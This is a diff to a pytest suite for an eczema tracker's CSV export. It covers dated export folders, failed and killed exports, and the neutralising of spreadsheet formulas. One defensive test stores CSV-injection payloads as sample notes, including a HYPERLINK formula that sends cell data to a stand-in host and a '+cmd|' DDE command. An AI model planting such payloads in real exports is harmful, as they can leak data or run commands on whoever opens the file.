@@ -4,12 +4,18 @@ from __future__ import annotations
 
 import csv
 import json
+import os
+import time
+from datetime import date
 
 import numpy as np
 import pytest
 
 from eczema_tracker.store import BackupError, Store, csv_export
 from eczema_tracker.store.csv_export import CSV_FILES, README_NAME, export_csv
+from eczema_tracker.store.lock import LOCK_NAME, WriterLock
+
+DAY = date(2026, 12, 7)
 
 
 def _read(path):
@@ -50,8 +56,9 @@ def store(tmp_path, eczema_photo_paths):
 
 
 def test_every_file_has_its_documented_header_and_the_stored_values(store, tmp_path):
-    out = tmp_path / "csv"
-    summary = export_csv(store, out)
+    summary = export_csv(store, tmp_path / "csv")
+    out = summary.folder
+    assert out == tmp_path / "csv" / f"eczema-record-{date.today().isoformat()}"
     assert sorted(p.name for p in out.iterdir()) == sorted(
         [name for name, _ in CSV_FILES] + [README_NAME]
     )
@@ -122,10 +129,12 @@ def test_every_file_has_its_documented_header_and_the_stored_values(store, tmp_p
             assert f"{column}  " in readme and meaning in readme
 
 
-def test_a_failed_write_leaves_each_file_whole(store, tmp_path, monkeypatch):
+def test_a_failed_write_leaves_no_folder_and_earlier_exports_as_they_were(
+    store, tmp_path, monkeypatch
+):
     out = tmp_path / "csv"
-    export_csv(store, out)
-    before = (out / "checkins.csv").read_bytes()
+    first = export_csv(store, out, day=DAY).folder
+    before = {p.name: p.read_bytes() for p in first.iterdir()}
     store.add_checkin("2026-04-20", [0] * 7)
 
     def failing_rows(_store):
@@ -134,9 +143,105 @@ def test_a_failed_write_leaves_each_file_whole(store, tmp_path, monkeypatch):
 
     monkeypatch.setitem(csv_export._ROWS, "checkins.csv", failing_rows)
     with pytest.raises(BackupError, match="No space left on device"):
-        export_csv(store, out)
-    assert (out / "checkins.csv").read_bytes() == before
-    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]
+        export_csv(store, out, day=DAY)
+    assert [p.name for p in out.iterdir()] == [first.name]  # no half set, no temp folder
+    assert {p.name: p.read_bytes() for p in first.iterdir()} == before
+
+
+def test_the_persons_files_are_never_overwritten_each_export_is_a_new_folder(store, tmp_path):
+    """Issue 22 item 3: DIR's own README.txt and photos.csv stay; a second export is ``-2``."""
+    out = tmp_path / "mine"
+    out.mkdir()
+    (out / "README.txt").write_text("my notes")
+    (out / "photos.csv").write_text("my,photos\n")
+    taken = out / "eczema-record-2026-12-07-2"
+    taken.mkdir()
+    (taken / "keep.txt").write_text("mine too")
+    first = export_csv(store, out, day=DAY).folder
+    second = export_csv(store, out, day=DAY).folder
+    assert first == out / "eczema-record-2026-12-07"
+    assert second == out / "eczema-record-2026-12-07-3"  # -2 was taken: never merged into
+    assert (out / "README.txt").read_text() == "my notes"
+    assert (out / "photos.csv").read_text() == "my,photos\n"
+    assert [p.name for p in taken.iterdir()] == ["keep.txt"]
+    for folder in (first, second):
+        assert {p.name for p in folder.iterdir()} == {n for n, _ in CSV_FILES} | {README_NAME}
+    assert sorted(p.name for p in out.iterdir()) == sorted(
+        ["README.txt", "photos.csv", taken.name, first.name, second.name]
+    )
+
+
+def test_a_killed_export_leaves_only_a_temp_folder_that_the_next_export_sweeps(store, tmp_path):
+    out = tmp_path / "csv"
+    out.mkdir()
+    killed = out / ".eczema-record-abc123.partial"  # what a SIGKILLed export leaves
+    killed.mkdir()
+    (killed / "photos.csv").write_text("photo_id\n1\n")
+    (killed / LOCK_NAME).write_text("12345\n")  # its writer is gone: nobody holds the lock
+    running = out / ".eczema-record-def456.partial"  # another export, still writing
+    running.mkdir()
+    holder = WriterLock(running)
+    holder.acquire()
+    young = out / ".eczema-record-ghi789.partial"  # created a moment ago, not yet locked
+    young.mkdir()
+    old = out / ".eczema-record-jkl000.partial"  # never locked, long ago
+    old.mkdir()
+    os.utime(old, (time.time() - 3600, time.time() - 3600))
+    lookalike = out / "eczema-record-abc.partial"  # not of our naming (not hidden): the person's
+    lookalike.mkdir()
+    try:
+        done = export_csv(store, out, day=DAY).folder
+    finally:
+        holder.release()
+    assert sorted(p.name for p in out.iterdir()) == sorted(
+        [running.name, young.name, lookalike.name, done.name]
+    )
+
+
+def test_a_folder_inside_the_store_is_refused(store, tmp_path):
+    for inside in (store.data_dir, store.data_dir / "exports", store.data_dir / "."):
+        with pytest.raises(BackupError, match="inside the photo store"):
+            export_csv(store, inside, day=DAY)
+    assert not (store.data_dir / "exports").exists()
+    assert not list(store.data_dir.glob("*eczema-record*"))
+
+
+def test_formula_like_text_is_neutralised_in_every_text_cell(store, tmp_path):
+    """Issue 22 item 12: no cell of a note, name or site starts a live formula."""
+    store.record_day("2026-04-07", note='=HYPERLINK("http://x.example/?"&A1,"open")')
+    store.record_day("2026-04-08", note="\t=1+2")  # the store strips the tab: "=1+2"
+    store.record_day("2026-04-09", note="  \n@SUM(A1)")
+    store.record_day("2026-04-10", note="-2+3 itchy")
+    store.record_day("2026-04-11", note="plain - note = fine")
+    store.add_treatment("+cmd|' /C calc'!A0", "other")
+    photo = store.photos()[0]
+    store.update_photo(photo.id, site="@elbow", note="=cmd")
+    out = export_csv(store, tmp_path / "csv", day=DAY).folder
+    notes = [m["note"] for m in _read(out / "day_marks.csv")]
+    assert notes[1:] == [
+        '\'=HYPERLINK("http://x.example/?"&A1,"open")',
+        "'=1+2",
+        "'@SUM(A1)",
+        "'-2+3 itchy",
+        "plain - note = fine",
+    ]
+    assert {t["name"] for t in _read(out / "treatments.csv")} == {
+        "Betnovate",
+        "'+cmd|' /C calc'!A0",
+    }
+    (row,) = [p for p in _read(out / "photos.csv") if p["photo_id"] == str(photo.id)]
+    assert (row["site"], row["note"]) == ("'@elbow", "'=cmd")
+    # numbers stay numbers, and the README says what was done
+    assert all(not cell.startswith("'") for cell in _read(out / "checkins.csv")[0].values())
+    assert "starts with an added '" in (out / README_NAME).read_text(encoding="utf-8")
+
+
+def test_neutralise_formula_covers_leading_tabs_and_carriage_returns():
+    assert csv_export.neutralise_formula("\t=1") == "'\t=1"
+    assert csv_export.neutralise_formula("\r=1") == "'\r=1"
+    assert csv_export.neutralise_formula(" \t +1") == "' \t +1"
+    assert csv_export.neutralise_formula("1-2") == "1-2"
+    assert csv_export.neutralise_formula("") == ""
 
 
 def test_a_file_in_the_way_is_refused(store, tmp_path):
@@ -145,3 +250,36 @@ def test_a_file_in_the_way_is_refused(store, tmp_path):
     with pytest.raises(BackupError, match="is a file, not a folder"):
         export_csv(store, target)
     assert target.read_text() == "mine"
+
+
+def test_a_really_killed_export_is_swept_by_the_next(store, tmp_path):
+    """A SIGKILLed export process: no record folder, one temp folder, gone after the next."""
+    import signal
+    import subprocess
+    import sys
+
+    out = tmp_path / "csv"
+    child = f"""
+import sys
+from eczema_tracker.store import Store, csv_export
+def stuck(_store):
+    print("writing", flush=True)
+    sys.stdin.read()  # until killed
+    yield from ()
+csv_export._ROWS["ratings.csv"] = stuck
+with Store.open({str(store.data_dir)!r}, readonly=True) as s:
+    csv_export.export_csv(s, {str(out)!r})
+"""
+    proc = subprocess.Popen(
+        [sys.executable, "-c", child], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+    )
+    try:
+        assert proc.stdout.readline() == "writing\n"
+    finally:
+        proc.send_signal(signal.SIGKILL)
+        proc.wait()
+    (partial,) = out.iterdir()
+    assert partial.name.startswith(".eczema-record-") and partial.name.endswith(".partial")
+    assert (partial / "photos.csv").exists()
+    done = export_csv(store, out, day=DAY).folder
+    assert [p.name for p in out.iterdir()] == [done.name]
